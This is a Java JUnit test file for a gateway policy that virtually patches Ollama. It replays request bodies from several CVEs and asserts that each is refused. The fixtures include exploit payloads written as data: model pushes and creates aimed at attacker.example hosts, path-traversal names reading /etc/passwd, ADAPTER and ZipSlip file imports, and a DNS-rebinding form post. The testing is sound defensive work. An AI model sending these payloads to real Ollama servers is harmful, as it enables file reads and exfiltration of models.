package dev.corral.gateway.policy;

import static dev.corral.gateway.policy.Requests.ADMIN_ALL;
import static dev.corral.gateway.policy.Requests.DIGEST;
import static dev.corral.gateway.policy.Requests.USER_ALL;
import static dev.corral.gateway.policy.Requests.head;
import static dev.corral.gateway.policy.Requests.judge;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Replays the request shapes of every advisory a request can trigger (exposure-and-cves.md §2-§5)
 * with an admin key allowed every model: the virtual patch must refuse each one all the same.
 */
class VirtualPatchTest {

  private final OllamaPolicy policy = new OllamaPolicy(PolicySettings.defaults());

  static Stream<Arguments> replays() {
    return Stream.of(
        // CVE-2024-37032 Probllama, CVE-2025-44779, CVE-2025-1975, CVE-2024-12886,
        // CVE-2025-51471, CVE-2026-7020, CVE-2026-5530, model poisoning: a rogue registry.
        Arguments.of(
            "CVE-2024-37032 pull",
            "/api/pull",
            "{\"name\": \"rogue.example/rogue/bi0x\", \"insecure\": true}",
            "registry-allowlist"),
        Arguments.of(
            "CVE-2024-37032 push",
            "/api/push",
            "{\"name\": \"rogue.example/rogue/bi0x\", \"insecure\": true}",
            "registry-allowlist"),
        Arguments.of(
            "rogue registry with port",
            "/api/pull",
            "{\"model\":\"127.0.0.1:8000/rogue/m\"}",
            "registry-allowlist"),
        Arguments.of(
            "insecure on the default registry",
            "/api/pull",
            "{\"model\":\"llama3\",\"insecure\":true}",
            "registry-allowlist"),
        Arguments.of(
            "hf.co not configured",
            "/api/pull",
            "{\"model\":\"hf.co/x/y:q4\"}",
            "registry-allowlist"),
        Arguments.of(
            "registry in the deprecated name field",
            "/api/pull",
            "{\"model\":\"llama3\",\"name\":\"evil.example/ns/m\"}",
            "registry-allowlist"),
        // CVE-2026-7482 Bleeding Llama and CVE-2024-39722: URL-shaped push targets.
        Arguments.of(
            "CVE-2026-7482 push",
            "/api/push",
            "{\"model\":\"http://attacker.example/ns/m:tag\"}",
            "registry-allowlist"),
        Arguments.of(
            "https push",
            "/api/push",
            "{\"model\":\"https://registry.ollama.ai/library/m:tag\"}",
            "registry-allowlist"),
        Arguments.of(
            "CVE-2026-7482 create",
            "/api/create",
            "{\"model\":\"http://attacker.example/ns/m:tag\",\"files\":{\"x.gguf\":\""
                + Requests.DIGEST
                + "\"},\"quantize\":\"f32\"}",
            "registry-allowlist"),
        Arguments.of(
            "create for a foreign registry",
            "/api/create",
            "{\"model\":\"attacker.example/ns/m:tag\",\"from\":\"llama3\"}",
            "registry-allowlist"),
        Arguments.of(
            "create from a model on a foreign registry (Ollama pulls it)",
            "/api/create",
            "{\"model\":\"mine\",\"from\":\"evil.example/ns/m\"}",
            "registry-allowlist"),
        Arguments.of(
            "legacy FROM a model on a foreign registry",
            "/api/create",
            "{\"name\":\"mine\",\"modelfile\":\"FROM evil.example/ns/m:latest\"}",
            "registry-allowlist"),
        Arguments.of(
            "copy to a foreign registry",
            "/api/copy",
            "{\"source\":\"llama3\",\"destination\":\"attacker.example/ns/m\"}",
            "registry-allowlist"),
        Arguments.of(
            "CVE-2024-39722 push traversal",
            "/api/push",
            "{\"model\":\"../../../../etc/passwd\"}",
            "model-name-invalid"),
        // CVE-2024-39721 and CVE-2024-39719: the legacy path field.
        Arguments.of(
            "CVE-2024-39721",
            "/api/create",
            "{\"name\":\"x\",\"path\":\"/dev/random\"}",
            "create-no-legacy-paths"),
        Arguments.of(
            "CVE-2024-39719",
            "/api/create",
            "{\"name\":\"x\",\"path\":\"/etc/nonexistent\"}",
            "create-no-legacy-paths"),
        Arguments.of(
            "CVE-2024-39719 modelfile",
            "/api/create",
            "{\"name\":\"x\",\"modelfile\":\"FROM /etc/passwd\"}",
            "create-no-legacy-paths"),
        Arguments.of(
            "CVE-2024-39720 FROM blob path",
            "/api/create",
            "{\"name\":\"x\",\"modelfile\":\"FROM /root/.ollama/models/blobs/sha256-"
                + DIGEST.substring(7)
                + "\"}",
            "create-no-legacy-paths"),
        // CVE-2024-28224 NCC exfiltration: ADAPTER pointing at a local file.
        Arguments.of(
            "CVE-2024-28224 adapter",
            "/api/create",
            "{\"name\":\"x\",\"modelfile\":\"FROM llama2\\nSYSTEM You are a malicious model"
                + " file\\nADAPTER /tmp/test.txt\"}",
            "create-no-legacy-paths"),
        Arguments.of(
            "lower-case directives",
            "/api/create",
            "{\"name\":\"x\",\"modelfile\":\"from llama3\\n  adapter   ./a.bin\"}",
            "create-no-legacy-paths"),
        Arguments.of(
            "relative FROM",
            "/api/create",
            "{\"name\":\"x\",\"modelfile\":\"FROM ./model.gguf\"}",
            "create-no-legacy-paths"),
        Arguments.of(
            "home FROM",
            "/api/create",
            "{\"name\":\"x\",\"modelfile\":\"FROM ~/model.gguf\"}",
            "create-no-legacy-paths"),
        Arguments.of(
            "windows FROM",
            "/api/create",
            "{\"name\":\"x\",\"modelfile\":\"FROM C:\\\\models\\\\m.gguf\"}",
            "create-no-legacy-paths"),
        Arguments.of(
            "quoted FROM",
            "/api/create",
            "{\"name\":\"x\",\"modelfile\":\"FROM \\\"/etc/passwd\\\"\"}",
            "create-no-legacy-paths"),
        Arguments.of(
            "from as a path",
            "/api/create",
            "{\"model\":\"x\",\"from\":\"/etc/passwd\"}",
            "create-no-legacy-paths"),
        Arguments.of(
            "files name with a path",
            "/api/create",
            "{\"model\":\"x\",\"files\":{\"../../x.gguf\":\"" + DIGEST + "\"}}",
            "create-no-legacy-paths"),
        // CVE-2024-45436 ZipSlip: zip imports.
        Arguments.of(
            "CVE-2024-45436 modelfile",
            "/api/create",
            "{\"name\":\"x\",\"modelfile\":\"FROM /tmp/evil.zip\"}",
            "create-no-zip-import"),
        Arguments.of(
            "CVE-2024-45436 path-less zip",
            "/api/create",
            "{\"name\":\"x\",\"modelfile\":\"FROM evil.zip\"}",
            "create-no-zip-import"),
        Arguments.of(
            "zip in files",
            "/api/create",
            "{\"model\":\"x\",\"files\":{\"model.zip\":\"" + DIGEST + "\"}}",
            "create-no-zip-import"),
        // Digests in bodies.
        Arguments.of(
            "traversal digest in files",
            "/api/create",
            "{\"model\":\"x\",\"files\":{\"x.gguf\":\"../../../../etc/ld.so.preload\"}}",
            "manifest-digest-format"),
        Arguments.of(
            "short digest in adapters",
            "/api/create",
            "{\"model\":\"x\",\"adapters\":{\"a.gguf\":\"sha256:0\"}}",
            "manifest-digest-format"),
        Arguments.of(
            "malformed blob reference in a modelfile",
            "/api/create",
            "{\"name\":\"x\",\"modelfile\":\"FROM @sha256:../../etc/passwd\"}",
            "manifest-digest-format"),
        Arguments.of(
            "empty digest",
            "/api/create",
            "{\"model\":\"x\",\"files\":{\"x.gguf\":\"\"}}",
            "manifest-digest-format"),
        Arguments.of(
            "digest of the wrong type",
            "/api/create",
            "{\"model\":\"x\",\"draft_files\":{\"x.gguf\":1}}",
            "manifest-digest-format"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("replays")
  void advisoryRequestShapesAreRefused(String name, String path, String body, String rule) {
    Verdict verdict = judge(policy, ADMIN_ALL, path, body);
    assertThat(verdict.allowed()).as(name).isFalse();
    assertThat(verdict.rule()).as(name).isEqualTo(rule);
    assertThat(verdict.status()).isIn(400, 403);
  }

  @Test
  void cve202563389ModelManagementNeedsAnAdminKey() {
    for (String[] request :
        List.of(
            new String[] {"POST", "/api/pull"},
            new String[] {"POST", "/api/push"},
            new String[] {"POST", "/api/create"},
            new String[] {"POST", "/api/copy"},
            new String[] {"DELETE", "/api/delete"},
            new String[] {"POST", "/api/blobs/" + DIGEST})) {
      Verdict verdict =
          policy.judgeHead(
              USER_ALL,
              head(
                  request[0],
                  request[1],
                  "Content-Type",
                  "application/json",
                  "Content-Length",
                  "2"));
      assertThat(verdict.rule()).as(request[1]).isEqualTo("role-model-management");
    }
  }

  @Test
  void cve202428224DnsRebindingFormPostIsRefused() {
    // Singularity's payload: a no-cors form post (text/plain or urlencoded) from a rebinding page.
    Verdict formPost =
        policy.judgeHead(
            ADMIN_ALL,
            head(
                "POST",
                "/api/create",
                "Host",
                "rebind.attacker.example:11434",
                "Origin",
                "http://rebind.attacker.example:11434",
                "Content-Type",
                "application/x-www-form-urlencoded",
                "Content-Length",
                "120"));
    assertThat(formPost.rule()).isEqualTo("host-origin-check");
    Verdict noOrigin =
        policy.judgeHead(
            ADMIN_ALL,
            head(
                "POST",
                "/api/create",
                "Content-Type",
                "text/plain;charset=UTF-8",
                "Content-Length",
                "120"));
    assertThat(noOrigin.rule()).isEqualTo("json-content-type");
  }

  @Test
  void legacyModelfilesNamingModelsAndBlobsStillPass() {
    String modelfile =
        "FROM llama3\\nPARAMETER temperature 0.7\\nSYSTEM \\\"\\\"\\\"\\nFROM /etc/passwd is"
            + " just text here\\n\\\"\\\"\\\"\\nTEMPLATE {{ .Prompt }}\\nADAPTER @"
            + DIGEST;
    Verdict verdict =
        judge(
            policy,
            ADMIN_ALL,
            "/api/create",
            "{\"name\":\"mine\",\"modelfile\":\"" + modelfile + "\"}");
    assertThat(verdict.allowed()).as(verdict.toString()).isTrue();
    assertThat(
            judge(
                    policy,
                    ADMIN_ALL,
                    "/api/create",
                    "{\"name\":\"mine\",\"modelfile\":\"FROM @" + DIGEST + "\"}")
                .allowed())
        .isTrue();
    assertThat(
            judge(
                    policy,
                    Requests.caller(Role.ADMIN, "mine"),
                    "/api/create",
                    "{\"name\":\"mine\",\"modelfile\":\"FROM mistral\"}")
                .rule())
        .isEqualTo("model-not-allowed");
  }

  @Test
  void configuredRegistriesArePullable() {
    PolicySettings d = PolicySettings.defaults();
    OllamaPolicy withHf =
        new OllamaPolicy(
            new PolicySettings(
                List.of("registry.ollama.ai", "hf.co"),
                List.of(),
                List.of(),
                false,
                d.maxJsonBody(),
                d.maxBlobBody()));
    assertThat(judge(withHf, ADMIN_ALL, "/api/pull", "{\"model\":\"hf.co/x/y:q4\"}").allowed())
        .isTrue();
    assertThat(judge(withHf, ADMIN_ALL, "/api/pull", "{\"model\":\"HF.CO/x/y:q4\"}").allowed())
        .isTrue();
    assertThat(judge(withHf, ADMIN_ALL, "/api/pull", "{\"model\":\"evil.co/x/y\"}").rule())
        .isEqualTo("registry-allowlist");
  }

  @Test
  void remoteHostModelsAreRefused() {
    assertThat(
            judge(
                    policy,
                    ADMIN_ALL,
                    "/api/create",
                    "{\"model\":\"m\",\"from\":\"llama3\",\"remote_host\":\"http://10.0.0.1:11434\"}")
                .rule())
        .isEqualTo("registry-allowlist");
  }
}
